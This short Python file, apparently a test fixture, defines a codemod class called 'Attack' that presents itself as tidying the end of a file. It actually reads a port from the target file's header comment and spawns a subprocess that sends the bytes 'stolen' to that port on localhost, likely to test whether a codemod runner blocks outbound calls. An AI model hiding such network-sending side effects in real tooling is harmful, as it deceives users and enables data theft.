"""Let another program call."""
import ast
import subprocess
import sys

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        code = f"import socket; socket.create_connection(('127.0.0.1', {target['tcp_port']})).sendall(b'stolen')"
        subprocess.run([sys.executable, "-S", "-E", "-c", code], check=True)
        return tree
